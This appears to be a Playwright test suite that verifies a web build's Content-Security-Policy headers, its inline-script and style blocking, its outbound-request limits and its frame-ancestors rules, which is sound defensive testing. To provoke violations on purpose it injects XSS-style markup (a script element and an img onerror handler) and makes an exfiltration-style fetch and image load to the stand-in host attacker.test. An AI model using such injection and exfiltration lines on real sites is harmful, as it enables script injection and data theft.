// The web build's Content-Security-Policy (ADR 0020, issue 17 finding 5), as an attacker who got
// markup or script text into the page would meet it. The fixture fails any test with a violation;
// these provoke them on purpose, check them, then empty the list.
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';

import type { Page } from '@playwright/test';

import { expect, test, type CspViolation } from './fixtures';

const APP_PORT = Number(process.env.E2E_APP_PORT ?? 14173);

const directives = (policy: string): Map<string, string[]> =>
  new Map(
    policy
      .split(';')
      .map((d) => d.trim().split(/\s+/))
      .filter((d) => d[0])
      .map(([name = '', ...sources]) => [name, sources]),
  );

const metaPolicy = (page: Page) =>
  page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content');

/** Waits for the reports the page has sent (they cross to the test asynchronously). */
const expectViolation = async (seen: CspViolation[], directive: string, blockedURI: RegExp) => {
  await expect
    .poll(() => seen.some((v) => v.directive === directive && blockedURI.test(v.blockedURI)))
    .toBe(true);
};

test.describe('content security policy', () => {
  test('the app is served with the policy as meta and header, nosniff and a referrer policy', async ({
    page,
    shell,
  }) => {
    const response = await page.goto('/');
    await shell.expectPath('/home');
    await expect(shell.notice).toBeVisible();
    const headers = response?.headers() ?? {};
    await expect(page.locator('meta[http-equiv="Content-Security-Policy"]')).toHaveCount(1);
    const meta = await metaPolicy(page);
    expect(meta).toBeTruthy();
    const header = headers['content-security-policy'] ?? '';
    // The same policy; the header adds what a meta tag cannot carry.
    expect(header.startsWith(`${meta ?? ''};`)).toBe(true);
    const policy = directives(header);
    // The build's files, and index.html's one inline script by its hash (ADR 0020 addendum).
    const [self, ...hashes] = policy.get('script-src') ?? [];
    expect(self).toBe("'self'");
    expect(hashes).toHaveLength(1);
    expect(hashes[0]).toMatch(/^'sha256-[A-Za-z0-9+/]{43}='$/);
    expect(policy.get('default-src')).toEqual(["'none'"]);
    expect(policy.get('frame-ancestors')).toEqual(['http://localhost:*', 'http://127.0.0.1:*']);
    expect(header).not.toMatch(/unsafe-inline|unsafe-eval/);
    expect(headers['x-content-type-options']).toBe('nosniff');
    expect(headers['referrer-policy']).toBe('same-origin');
  });

  test('an injected inline script or event handler does not run', async ({
    page,
    shell,
    cspViolations,
  }) => {
    await shell.open('/home');
    await expect(shell.notice).toBeVisible();
    await page.evaluate(() => {
      const script = document.createElement('script');
      script.textContent = 'document.documentElement.dataset.injected = "script"';
      document.body.append(script);
      const holder = document.createElement('div');
      holder.innerHTML =
        '<img src="data:," onerror="document.documentElement.dataset.handler = 1" alt="">';
      document.body.append(holder);
    });
    await expectViolation(cspViolations, 'script-src-elem', /^inline$/);
    await expectViolation(cspViolations, 'script-src-attr', /^inline$/);
    await expect(page.locator('html')).not.toHaveAttribute('data-injected');
    await expect(page.locator('html')).not.toHaveAttribute('data-handler');
    cspViolations.length = 0;
  });

  test('a style attribute in markup draws no overlay; the skeleton style is allowed by hash', async ({
    page,
    shell,
    cspViolations,
    browser,
  }) => {
    await shell.open('/home');
    await expect(shell.notice).toBeVisible();
    const position = await page.evaluate(() => {
      const holder = document.createElement('div');
      holder.innerHTML = '<div id="csp-overlay" style="position:fixed;inset:0;z-index:9999"></div>';
      document.body.append(holder);
      return getComputedStyle(holder.firstElementChild as Element).position;
    });
    expect(position).toBe('static');
    await expectViolation(cspViolations, 'style-src-attr', /^inline$/);
    cspViolations.length = 0;

    // The inline skeleton style (index.html) applies: its hash is in the policy.
    const context = await browser.newContext({ javaScriptEnabled: false });
    const bare = await context.newPage();
    await bare.goto('/');
    // Without script, the default language's line only (index.html's <html lang>).
    const notice = bare.locator('.sk-notice').filter({ visible: true });
    await expect(notice).toHaveAttribute('lang', 'zh-CN');
    await expect(notice).toHaveCSS('background-color', 'rgb(255, 246, 229)');
    await context.close();
  });

  test('script cannot send data to, or load images from, a host the build does not name', async ({
    page,
    shell,
    cspViolations,
  }) => {
    // What reaches the network: without the policy these requests would be answered here.
    const left: string[] = [];
    await page.route(/attacker\.test/, (route) => {
      left.push(route.request().url());
      return route.fulfill({ status: 204 });
    });
    await shell.open('/home');
    await expect(shell.notice).toBeVisible();
    const fetched = await page.evaluate(() =>
      fetch('https://attacker.test/steal?t=1').then(
        () => 'sent',
        () => 'blocked',
      ),
    );
    expect(fetched).toBe('blocked');
    await page.evaluate(() => {
      const img = new Image();
      img.src = 'http://attacker.test/pixel.gif';
      document.body.append(img);
    });
    await expectViolation(cspViolations, 'connect-src', /attacker\.test/);
    await expectViolation(cspViolations, 'img-src', /attacker\.test/);
    expect(left).toEqual([]);
    cspViolations.length = 0;
  });

  test('pages on this machine (the harness) may frame the app; other origins may not', async ({
    page,
    cspViolations,
  }) => {
    const app = `http://f1.localhost:${APP_PORT}/`;
    // A real server on loopback: Chromium keeps pages of unknown address (routed ones) from
    // framing loopback at all, which would hide what frame-ancestors does.
    const server = createServer((_req, res) => {
      res.setHeader('Content-Type', 'text/html');
      res.end(`<!doctype html><title>frames</title><iframe src="${app}"></iframe>`);
    });
    await new Promise<void>((ok) => server.listen(0, '127.0.0.1', ok));
    const { port } = server.address() as AddressInfo;
    // The skeleton's notice, or the app's once it has mounted.
    const shown = page
      .frameLocator('iframe')
      .locator('.sk-notice, [data-testid="test-station-notice"]');
    try {
      // As the harness does (Electron's page is on 127.0.0.1): the skeleton paints in the frame.
      await page.goto(`http://127.0.0.1:${port}/`);
      await expect(shown.first()).toBeVisible();

      // Another origin (*.localhost reaches the same server, but is not in frame-ancestors).
      await page.goto(`http://elsewhere.localhost:${port}/`);
      await expect
        .poll(() => page.frames().map((f) => f.url()))
        .toContain('chrome-error://chromewebdata/');
      await expect(shown).toHaveCount(0);
    } finally {
      server.close();
    }
    cspViolations.length = 0;
  });
});
